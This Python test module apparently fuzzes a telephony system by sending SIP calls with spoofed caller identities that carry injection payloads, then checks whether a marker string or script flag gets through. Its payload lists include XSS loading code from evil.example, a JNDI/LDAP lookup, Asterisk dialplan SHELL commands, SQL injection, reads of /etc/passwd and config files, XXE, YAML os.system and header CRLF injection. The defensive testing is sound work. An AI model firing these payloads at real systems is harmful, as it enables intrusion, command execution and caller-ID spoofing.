"""What a caller's telephone can say of who calls, to harm those who read it: by SIP, on real wires.

Each holds ``MARK``, which is nowhere else: wherever it is found, something was let through.
A script that runs sets ``window.__hit``.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote

from cti.rehearsal.phone import Phone

MARK = "Zwyx"
HIT = "window.__hit=1"
LETTERS_MANY = 10_000

SCRIPTS = [
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{HIT}//",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<img src=x onerror={HIT}>",
    f'"><img src=x onerror="{HIT}">',
    f"'><img src=x onerror='{HIT}'>",
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}//",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mi//xlink:href='data:x,<script>{HIT}</script>'>",
    f"<body onload={HIT}>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'>",
    "<iframe src=javascript:parent.__hit=1>",
    f"<a href=javascript:{HIT} id=x autofocus onfocus={HIT}>x</a>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<object data=javascript:{HIT}>",
    f"<embed src=javascript:{HIT}>",
    f"<form action=javascript:{HIT}><button autofocus>x",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<style>@import'//evil.example/x.css';*{{animation:x}}</style><x onanimationstart={HIT}>",
    f"<link rel=stylesheet href=//evil.example/x.css onload={HIT}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    f"<template><script>{HIT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"<textarea><script>{HIT}</script>",
    f"<title></title><script>{HIT}</script>",
    f"<xmp><img src=x onerror={HIT}></xmp>",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"';{HIT};'",
    f'";{HIT};"',
    f"`;{HIT};`",
    f"\\';{HIT}//",
    f"</title></textarea></style></script><img/src/onerror={HIT}>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{HIT}\\x3c/script\\x3e",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\u02c2script\u02c3{HIT}",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    f"<\u200bscript>{HIT}</script>",
]
TEMPLATES = [
    "{{7*7}}",
    "{{constructor.constructor('window.__hit=1')()}}",
    "{{ config }} {% raw %} {% include '/etc/passwd' %}",
    "{%25 for x in ().__class__.__base__.__subclasses__() %25}",
    "${7*7} #{7*7} <%= 7*7 %> @{7*7} *{7*7}",
    "${window.__hit=1}",
    "${jndi:ldap://evil.example/a}",
    "{0} {name} {self.__class__} {!r}",
    "$(id) `id` ;id| id&& id",
    "%s%s%s%n %x %p %(message)s %d",
    "%{host} %25n",
    "[[${7*7}]] [% 7 %] <#if true>",
]
DIALPLAN = [
    "${SHELL(touch /state/Zwyx)}",
    "${SHELL(echo hi > /state/Zwyx)}",
    "$[1+1]",
    "${CALLERID(all)} ${EXTEN}",
    "${ENV(PATH)}",
    "${CHANNEL(pjsip,remote_uri)}",
    "${EVAL(${SHELL(touch /state/Zwyx)})}",
    "${FILE(/etc/asterisk/ari.conf)}",
    "${DB(x/y)} ${CURL(http://127.0.0.1/)}",
    "),Set(FIL_PRIVACY=",
    ",,,)(][^|;",
    "s,1,System(touch /state/Zwyx)",
]
DATA = [
    "'; DROP TABLE calls; --",
    '" OR 1=1 --',
    "1; DELETE FROM people; /*",
    "' UNION SELECT secret FROM sip --",
    "\\'; COPY calls TO PROGRAM 'id'; --",
    '"},"event":"forged","x":{"y":"',
    '"}\\n{"event":"forged"}',
    '","type":"call.offered","data":{"',
    '[1,2,{"__proto__":{"hit":1}}]',
    "__proto__",
    "constructor.prototype",
    "toString",
    "null",
    "NaN",
    "undefined",
    "true",
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/dev/null; CON AUX NUL COM1",
    "file:///etc/passwd",
    "http://evil.example/?x=",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "(&(uid=*)(|(x=*",
    "!!python/object/apply:os.system ['id']",
    "- &a [*a, *a]",
    "a\\r\\nEvent: Forged\\r\\nNumber: 7",
    "%0D%0AEvent: Forged%0D%0A",
    "\\0 \\x00 %00 \\u0000",
]
LETTERS = [
    "\u202etxet desrever",
    "\u202a\u202b\u202d\u202e\u2066\u2067\u2068",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u200f\u200e\u061c",
    "\u034f\u115f\u1160\u17b4\u180e\u3164",
    "e" + "\u0301" * 200,
    "H\u030d\u030e\u0304\u0305\u033f\u0311" * 30,
    "\ufdfd" * 20,
    "\U00012031" * 20,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 10,
    "\U000e0001\U000e0041\U000e0042",
    "\ufffe\uffff\ufdd0",
    "\u2028\u2029\u0085",
    "\u0080\u009b31m\u009f",
    "\udcff\udcfe\udcc3(",
    "\udcc0\udcaf\udcc0\udcae",
    "\udced\udca0\udc80",
    "\udcf4\udc90\udc80\udc80",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x1bPq\x1b\\\x1b[6n",
    "\x08\x08\x08\x7f\x0b\x0c\x01\x02\x1f",
    "\t\t\t",
    "\u0627\u0644\u0644\u0651\u0647 \u05d0\u05d1\u05d2",
    "\u0930\u094d\u0915\u094d\u0930\u0930\u094d\u0915",
    "x" * 200,
    "x" * 2_000,
    "\u00e9" * 1_500,
    "W" * 80 + " " + "W" * 80,
    " ".join("word" for _ in range(300)),
    "(" * 300,
    "<b>" * 300,
    "\u05d0" * 300,
    "-" * 500,
    "\u00ad" * 200 + "\u00a0" * 200,
]
PAYLOADS = [*SCRIPTS, *TEMPLATES, *DIALPLAN, *DATA, *LETTERS]

# What stands in a header of its own, around a payload: {0} as it is, {1} fit for an address.
HEADERS = [
    ("P-Asserted-Identity", '"{0}" <sip:{1}@evil.example>'),
    ("P-Preferred-Identity", '"{0}" <sip:{1}@evil.example>'),
    ("Remote-Party-ID", '"{0}" <sip:{1}@evil.example>;party=calling;privacy=off;screen=yes'),
    ("Diversion", '"{0}" <sip:{1}@evil.example>;reason=unconditional'),
    ("History-Info", "<sip:{1}@evil.example>;index=1"),
    ("Referred-By", '"{0}" <sip:{1}@evil.example>'),
    ("Reply-To", '"{0}" <sip:{1}@evil.example>'),
    ("Call-Info", "<http://evil.example/{1}>;purpose=icon"),
    ("Alert-Info", "<http://evil.example/{1}>"),
    ("User-Agent", "{0}"),
    ("Subject", "{0}"),
    ("Organization", "{0}"),
    ("Reason", 'SIP;cause=200;text="{0}"'),
    ("X-Zwyx", "{0}"),
    ("User-to-User", "{1};encoding=hex"),
    ("Identity", "{1};info=<http://evil.example/{1}>"),
    ("Geolocation", "<http://evil.example/{1}>"),
    ("Warning", '399 evil.example "{0}"'),
]

# Broken on the wire itself: the engine may well refuse these.
BROKEN = [
    '"{MARK}\r\nP-Asserted-Identity: <sip:{MARK}@evil.example>\r\nX: " <sip:{number}@evil.example>',
    '"{MARK}\r\n\r\n" <sip:{number}@evil.example>',
    '"{MARK}\n" <sip:{number}@evil.example>',
    '"{MARK}\r" <sip:{number}@evil.example>',
    '"{MARK}\x00" <sip:{number}@evil.example>',
    '"{MARK} <sip:{number}@evil.example>',
    '{MARK}" onload="window.__hit=1 <sip:{number}@evil.example>',
    "{MARK}<script>window.__hit=1</script> <sip:{number}@evil.example>",
    '"{MARK}" <sip:{number}@evil.example',
    '"{MARK}" <<sip:{number}@evil.example>>',
    '"{MARK}" sip:{number}@evil.example;x={MARK}',
    '"{MARK}" <sip:{number}@[::1]>',
    '"{MARK}" <tel:{number};phone-context={MARK}>',
    '"{MARK}" <sips:{number}@evil.example>',
    '"{MARK}" <sip:{MARK}>',
    '"{MARK}" <http://evil.example/{number}>',
]


@dataclass(frozen=True)
class Identity:
    """Who a caller says they are."""

    name: str | None = None
    user: str | None = None  # None: a number of their own
    headers: dict[str, str] = field(default_factory=dict)
    contact: str | None = None  # the user part of where they say they are
    whole_from: str | None = None  # the whole From, instead of a name and a user
    may_be_refused: bool = False


class RudePhone(Phone):
    """A telephone that says what it likes of itself."""

    identity: Identity

    @property
    def contact(self) -> str:
        if self.identity.contact is None:
            return super().contact
        return f"sip:{self.identity.contact}@{self.host}:{self.port}"

    def _identity(self) -> str:
        return self.identity.whole_from or super()._identity()


def a_phone(identity: Identity, number: str, server: tuple[str, int]) -> RudePhone:
    """The telephone of such a caller; it sends no sound."""
    phone = RudePhone(
        number,
        server=server,
        early_rtp=False,
        display_name=identity.name,
        from_user=None if identity.user is None else identity.user.replace("{number}", number),
    )
    whole = identity.whole_from and identity.whole_from.replace("{number}", number)
    phone.identity = Identity(
        identity.name, identity.user, identity.headers, identity.contact, whole
    )
    return phone


def _in_address(text: str) -> str:
    return quote(text.encode("utf-8", "surrogateescape"), safe="")[:1_500]


def identities() -> Iterator[Identity]:
    """All of them: as a name, within the number, in every other header, broken, and enormous."""
    for payload in PAYLOADS:
        yield Identity(name=f"{MARK} {payload}")
    for place, payload in enumerate(PAYLOADS):
        if place % 3 == 1:
            continue
        marked = _in_address(f"{MARK}{payload}")
        if place % 3 == 0:
            before, after = (marked, "") if place % 2 else ("", marked)
            yield Identity(user=f"{before}{{number}}{after}", contact=marked)
        else:
            name, written = HEADERS[place // 3 % len(HEADERS)]
            text = f"{MARK} {payload}".replace("\\", "\\\\").replace('"', '\\"')
            yield Identity(headers={name: written.format(text, marked)})
    for whole in BROKEN:
        yield Identity(whole_from=whole.replace("{MARK}", MARK), may_be_refused=True)
    for text in ("x", "\u00e9", "<b>"):
        yield Identity(name=MARK + text * (LETTERS_MANY // len(text)), may_be_refused=True)
